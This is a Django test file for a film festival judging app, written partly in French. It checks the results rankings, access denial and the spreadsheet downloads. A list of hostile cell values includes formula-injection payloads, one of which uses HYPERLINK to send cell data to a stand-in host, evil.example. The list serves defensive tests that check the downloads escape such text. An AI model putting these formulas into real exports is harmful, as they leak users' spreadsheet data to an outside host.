"""The organizers' results pages and the downloads; denial for everyone else."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from festival.spreadsheets import is_formula_like
from judging.models_results import Publication, ResultsSettings
from judging.results import results_settings
from judging.views.results import DOWNLOADS
from tests import factories
from tests.conftest import login
from tests.judging import results_scenario
from tests.judging.queries import writes
from tests.judging.test_awards import make_scored_category


@pytest.fixture
def scenario(edition, teacher):
    return results_scenario.build(edition, teacher=teacher)


def results_url(edition):
    return reverse("judging:results", args=[edition.pk])


def film_url(edition, film):
    return reverse("judging:results_film", args=[edition.pk, film.pk])


def download_url(edition, name):
    return reverse("judging:results_download", args=[edition.pk, name])


def feedback_url(film):
    return reverse("judging:results_feedback", args=[film.pk])


def test_ranking_page(organizer_client, scenario, edition):
    response = organizer_client.get(results_url(edition))
    assert response.status_code == 200
    lycee = response.context["categories"][1]
    assert lycee["category"] == scenario.lycee
    assert [
        (line["film"], line["ranked"].score, line["ranked"].rank, line["tie_break"])
        for line in lycee["lines"]
    ] == [
        (scenario.films.b, 15.0, 1, ""),
        (scenario.films.a, 14.0, 2, "critère prioritaire"),
        (scenario.films.c, 14.0, 3, "critère prioritaire"),
    ]
    college = response.context["categories"][0]
    assert [(line["film"], line["status"]) for line in college["lines"]] == [
        (scenario.films.d, "trop peu de notes")
    ]
    content = response.content.decode()
    assert "Les mains de l&#x27;usine" in content
    assert "W de Kendall" in content
    agreement = lycee["agreement"]
    # The juror who scored B only is left out: Anne, Bruno and Chloé all scored A and B.
    assert (agreement.jurors, agreement.films) == (3, 2)
    # Anne ties A and B, Bruno prefers B, Chloé A: rank sums 4.5 and 4.5, no agreement.
    assert agreement.kendalls_w == 0.0
    assert agreement.podium == [str(scenario.films.b.pk), str(scenario.films.a.pk)] + [
        str(scenario.films.c.pk)
    ]


def test_ranking_page_query_count_does_not_grow_with_films(
    organizer_client, scenario, edition, django_assert_num_queries
):
    url = results_url(edition)
    organizer_client.get(url)
    with django_assert_num_queries(15) as one:
        organizer_client.get(url)
    for i in range(5):
        film = factories.make_film(category=scenario.lycee, status="accepted", title=f"Film {i}")
        for juror in scenario.jurors:
            factories.make_assignment(jury=scenario.jury, juror=juror, film=film)
            results_scenario.validated(juror, film, {scenario.scenario: i, scenario.image: 10 - i})
    with django_assert_num_queries(len(one.captured_queries)):
        response = organizer_client.get(url)
    assert len(response.context["categories"][1]["lines"]) == 8


def test_page_without_any_score(organizer_client, edition, category):
    response = organizer_client.get(results_url(edition))
    assert response.status_code == 200
    assert response.context["categories"][0]["lines"] == []
    # The default options are shown; nothing is written until an organizer changes them.
    settings = response.context["settings"]
    options = (settings.normalization, settings.aggregation, settings.min_jurors)
    assert options == ("none", "mean", 2)
    assert not ResultsSettings.objects.filter(edition=edition).exists()


def test_reading_the_results_writes_nothing(organizer_client, scenario, edition, organizer):
    factories.make_publication(edition, published_by=organizer)
    urls = [
        results_url(edition),
        film_url(edition, scenario.films.a),
        *(download_url(edition, name) for name in sorted(DOWNLOADS)),
        feedback_url(scenario.films.a),
    ]
    for url in urls:
        with CaptureQueriesContext(connection) as captured:
            response = organizer_client.get(url)
        assert (url, response.status_code, writes(captured)) == (url, 200, [])


def test_options_are_saved(organizer_client, scenario, edition):
    response = organizer_client.post(
        reverse("judging:results_options", args=[edition.pk]),
        {"normalization": "zscore", "aggregation": "trimmed", "min_jurors": "1"},
    )
    assert response.status_code == 302
    settings = ResultsSettings.objects.get(edition=edition)
    assert (settings.normalization, settings.aggregation, settings.min_jurors) == (
        "zscore",
        "trimmed",
        1,
    )
    response = organizer_client.get(results_url(edition))
    assert [line["ranked"].rank for line in response.context["categories"][0]["lines"]] == [1]


def test_invalid_options_change_nothing(organizer_client, scenario, edition):
    organizer_client.post(
        reverse("judging:results_options", args=[edition.pk]),
        {"normalization": "minmax", "aggregation": "mean", "min_jurors": "0"},
    )
    settings = results_settings(edition)
    assert (settings.normalization, settings.min_jurors) == ("none", 2)


def test_film_explanation(organizer_client, scenario, edition):
    response = organizer_client.get(film_url(edition, scenario.films.a))
    assert response.status_code == 200
    jurors = response.context["jurors"]
    assert [(j["name"], j["on_20"]) for j in jurors] == [
        ("Anne Juré", 14.0),
        ("Bruno Juré", 14.0),
        ("Chloé Juré", 14.0),
    ]
    assert jurors[0]["criteria"] == [("Scénario", 8.0), ("Image", 5.0)]
    assert response.context["not_counted"] == ["Eva Conflit"]
    assert response.context["entry"].steps["priority"]["aggregate"] == 16.0
    content = response.content.decode()
    assert "Critère prioritaire seul" in content


def test_film_explanation_under_zscore(organizer_client, scenario, edition):
    ResultsSettings.objects.create(edition=edition, normalization="zscore")
    response = organizer_client.get(film_url(edition, scenario.films.b))
    assert response.status_code == 200
    assert response.context["zscore"] is True
    assert "Normalisation centrée réduite" in response.content.decode()


def test_film_without_counting_score(organizer_client, scenario, edition):
    film = factories.make_film(category=scenario.lycee, status="accepted")
    response = organizer_client.get(film_url(edition, film))
    assert response.status_code == 200
    assert response.context["entry"] is None


@pytest.mark.parametrize(
    ("name", "content_type"),
    [
        ("notes.csv", "text/csv; charset=utf-8"),
        ("notes.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("classement.csv", "text/csv; charset=utf-8"),
        ("classement.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("scores.csv", "text/csv; charset=utf-8"),
        ("criteria.csv", "text/csv; charset=utf-8"),
        ("favourites.csv", "text/csv; charset=utf-8"),
        ("impact.csv", "text/csv; charset=utf-8"),
        ("impact.pdf", "application/pdf"),
    ],
)
def test_downloads(organizer_client, scenario, edition, name, content_type):
    response = organizer_client.get(download_url(edition, name))
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == (
        f'attachment; filename="filmit-{edition.year}-{name}"'
    )


def test_raw_scores_named_or_anonymised(organizer_client, scenario, edition):
    anonymous = organizer_client.get(download_url(edition, "notes.csv")).content.decode()
    named = organizer_client.get(
        download_url(edition, "notes.csv") + "?jurors=noms"
    ).content.decode()
    assert "Juré 1" in anonymous and "Anne Juré" not in anonymous
    assert "Anne Juré" in named and "Juré 1," not in named


def test_unknown_download_is_404(organizer_client, scenario, edition):
    assert organizer_client.get(download_url(edition, "secret.csv")).status_code == 404


def test_feedback_sheet_for_organizers(organizer_client, scenario):
    response = organizer_client.get(feedback_url(scenario.films.a))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")


def test_feedback_sheet_for_the_teacher_once_published(client, scenario, edition, organizer):
    login(client, scenario.teacher)
    url = feedback_url(scenario.films.a)
    assert client.get(url).status_code == 404
    publication = Publication.objects.create(
        edition=edition, snapshot={}, content_hash="0" * 64, published_by=organizer
    )
    assert client.get(url).status_code == 200
    publication.unpublished_at = publication.published_at
    publication.save()
    assert client.get(url).status_code == 404


def test_feedback_sheet_denied_to_others(client, scenario, edition, organizer, other_organizer):
    Publication.objects.create(
        edition=edition, snapshot={}, content_hash="0" * 64, published_by=organizer
    )
    url = feedback_url(scenario.films.a)
    assert client.get(url).status_code == 302  # anonymous → login
    for user in (factories.make_teacher(), scenario.jurors[0], other_organizer):
        login(client, user)
        assert client.get(url).status_code == 404


# Downloads: no text typed on the platform reaches a spreadsheet as a formula.

HOSTILE_VALUES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Voir")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
]


def hostile_scenario(scenario, value):
    """Film A's title and school, the lycée category, a criterion and a juror, all `value`."""
    film = scenario.films.a
    film.title = value
    film.save(update_fields=["title"])
    film.school.name = value
    film.school.save(update_fields=["name"])
    scenario.lycee.name = value
    scenario.lycee.save(update_fields=["name"])
    scenario.scenario.name = value
    scenario.scenario.save(update_fields=["name"])
    juror = scenario.jurors[0]
    juror.first_name = value
    juror.save(update_fields=["first_name"])
    return juror


def csv_table(response) -> list[list[str]]:
    assert response.status_code == 200
    table = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert [cell for row in table for cell in row if is_formula_like(cell)] == []
    return table


def xlsx_table(response) -> list[list]:
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [
        cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ] == []
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def film_rows(table, film, column):
    return [row for row in table[1:] if row[column] in (film.pk, str(film.pk))]


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_notes_downloads_guard_typed_text(organizer_client, scenario, edition, value):
    juror = hostile_scenario(scenario, value)
    film = scenario.films.a
    named = download_url(edition, "notes.csv") + "?jurors=noms"
    rows = film_rows(csv_table(organizer_client.get(named)), film, 1)
    guarded = "'" + value
    assert {(row[0], row[2], row[3]) for row in rows} == {(guarded, guarded, guarded)}
    assert sorted({row[4] for row in rows}) == sorted(
        ["'" + juror.get_full_name(), "Bruno Juré", "Chloé Juré"]
    )
    assert sorted({row[5] for row in rows}) == sorted([guarded, "Image"])

    workbook = download_url(edition, "notes.xlsx") + "?jurors=noms"
    rows = film_rows(xlsx_table(organizer_client.get(workbook)), film, 1)
    assert {(row[0], row[2], row[3]) for row in rows} == {(value, value, value)}
    assert juror.get_full_name() in {row[4] for row in rows}
    assert sorted({row[5] for row in rows}) == sorted([value, "Image"])
    assert {type(row[6]) for row in rows} <= {int, float}

    anonymous = csv_table(organizer_client.get(download_url(edition, "notes.csv")))
    assert {row[2] for row in film_rows(anonymous, film, 1)} == {guarded}


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_results_downloads_guard_typed_text(organizer_client, scenario, edition, value):
    hostile_scenario(scenario, value)
    film = scenario.films.a
    table = csv_table(organizer_client.get(download_url(edition, "classement.csv")))
    [row] = film_rows(table, film, 2)
    guarded = "'" + value
    assert (row[0], row[3], row[4], row[5]) == (guarded, guarded, guarded, "14.0")

    [row] = film_rows(
        xlsx_table(organizer_client.get(download_url(edition, "classement.xlsx"))), film, 2
    )
    assert (row[0], row[1], row[3], row[4], row[5]) == (value, 2, value, value, 14)


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_ranking_input_and_impact_downloads_guard_typed_text(
    organizer_client, scenario, edition, value
):
    hostile_scenario(scenario, value)
    guarded = "'" + value
    scores = csv_table(organizer_client.get(download_url(edition, "scores.csv")))
    assert sorted({row[3] for row in scores[1:]}) == sorted([guarded, "Image"])
    criteria = csv_table(organizer_client.get(download_url(edition, "criteria.csv")))
    assert criteria[1:] == [[guarded, "2", "0", "10", "1"], ["Image", "1", "0", "10", "0"]]
    csv_table(organizer_client.get(download_url(edition, "favourites.csv")))
    impact = csv_table(organizer_client.get(download_url(edition, "impact.csv")))
    assert [row[1] for row in impact if row[0] == "Catégorie"] == ["Collège", guarded]


# Denial: every page is the organizers' of this festival.


def _protected_urls(edition, film):
    return [
        results_url(edition),
        reverse("judging:results_films", args=[edition.pk]),
        reverse("judging:results_agreement", args=[edition.pk]),
        film_url(edition, film),
        download_url(edition, "notes.csv"),
        download_url(edition, "impact.pdf"),
        download_url(edition, "scores.csv"),
    ]


def test_anonymous_is_sent_to_login(client, scenario, edition):
    for url in _protected_urls(edition, scenario.films.a):
        response = client.get(url)
        assert response.status_code == 302
        assert "?next=" in response["Location"]
    response = client.post(reverse("judging:results_options", args=[edition.pk]), {})
    assert response.status_code == 302


@pytest.mark.parametrize("who", ["teacher", "juror", "other_organizer"])
def test_others_get_404(client, scenario, edition, other_organizer, who):
    user = {
        "teacher": scenario.teacher,
        "juror": scenario.jurors[0],
        "other_organizer": other_organizer,
    }[who]
    login(client, user)
    for url in _protected_urls(edition, scenario.films.a):
        assert client.get(url).status_code == 404
    response = client.post(
        reverse("judging:results_options", args=[edition.pk]),
        {"normalization": "zscore", "aggregation": "mean", "min_jurors": "1"},
    )
    assert response.status_code == 404
    assert not ResultsSettings.objects.filter(edition=edition, normalization="zscore").exists()


def test_a_film_of_another_edition_is_404(organizer_client, scenario, edition, festival):
    other = factories.make_edition(festival, is_current=False)
    film = factories.make_film(category=factories.make_category(other), status="accepted")
    assert organizer_client.get(film_url(edition, film)).status_code == 404


# Plain words, the numbers under "En savoir plus"


def agreement_url(edition):
    return reverse("judging:results_agreement", args=[edition.pk])


def plain_sentence(response) -> str:
    """The first plain sentence of the page, without its spacing."""
    html = response.content.decode()
    start = html.index('<p class="plain">') + len('<p class="plain">')
    return " ".join(html[start : html.index("</p>", start)].split())


def test_split_jurors_are_said_in_plain_words(organizer_client, scenario, edition):
    # Lycée: W = 0, the jurors are split; the podium changes with another aggregation.
    for url in (results_url(edition), agreement_url(edition)):
        response = organizer_client.get(url)
        html = response.content.decode()
        assert "Les jurés sont partagés." in html
        assert "Les jurés sont plutôt d'accord." not in html
        # The statistics stay available, folded under "En savoir plus".
        details = html[html.index('<details class="more">') :]
        assert "W de Kendall" in details


def test_agreeing_jurors_are_said_in_plain_words(organizer_client, edition, category):
    make_scored_category(edition, category)  # Both jurors rank Acier, Bronze, Cuivre.
    for url in (results_url(edition), agreement_url(edition)):
        response = organizer_client.get(url)
        assert plain_sentence(response) == (
            "Les jurés sont plutôt d'accord. Le podium ne change pas si on calcule autrement."
        )
    block = organizer_client.get(agreement_url(edition)).context["categories"][0]
    assert (block["agreement"].kendalls_w, block["podium"]) == (1.0, ["Acier", "Bronze", "Cuivre"])
    assert [v["changed"] for v in block["variants"]] == [False, False, False]


def test_explanations_list_every_film_by_category(organizer_client, scenario, edition):
    response = organizer_client.get(reverse("judging:results_films", args=[edition.pk]))
    assert [
        (block["category"].name, [line["film"].title for line in block["films"]])
        for block in response.context["categories"]
    ] == [
        ("Collège", [scenario.films.d.title]),
        ("Lycée", sorted(f.title for f in (scenario.films.a, scenario.films.b, scenario.films.c))),
    ]


def test_reading_the_new_pages_writes_nothing(organizer_client, scenario, edition):
    for url in (agreement_url(edition), reverse("judging:results_films", args=[edition.pk])):
        with CaptureQueriesContext(connection) as captured:
            assert organizer_client.get(url).status_code == 200
        assert writes(captured) == []


def test_the_menu_opens_the_current_editions_ranking(organizer_client, edition, festival):
    factories.make_edition(festival, is_current=False, year=2001)
    response = organizer_client.get(reverse("judging:results_current"))
    assert response["Location"] == results_url(edition)


def test_the_menu_ranking_without_edition(client, other_organizer):
    login(client, other_organizer)
    response = client.get(reverse("judging:results_current"))
    assert response.status_code == 200
    assert "aucune édition" in response.content.decode()


@pytest.mark.parametrize("name", ["results_films", "results_agreement"])
def test_new_pages_query_count_does_not_grow_with_films(
    organizer_client, scenario, edition, name, django_assert_num_queries
):
    url = reverse(f"judging:{name}", args=[edition.pk])
    organizer_client.get(url)
    with CaptureQueriesContext(connection) as one:
        organizer_client.get(url)
    for i in range(5):
        film = factories.make_film(category=scenario.lycee, status="accepted", title=f"Film {i}")
        for juror in scenario.jurors:
            factories.make_assignment(jury=scenario.jury, juror=juror, film=film)
            results_scenario.validated(juror, film, {scenario.scenario: i, scenario.image: 10 - i})
    with django_assert_num_queries(len(one.captured_queries)):
        assert organizer_client.get(url).status_code == 200
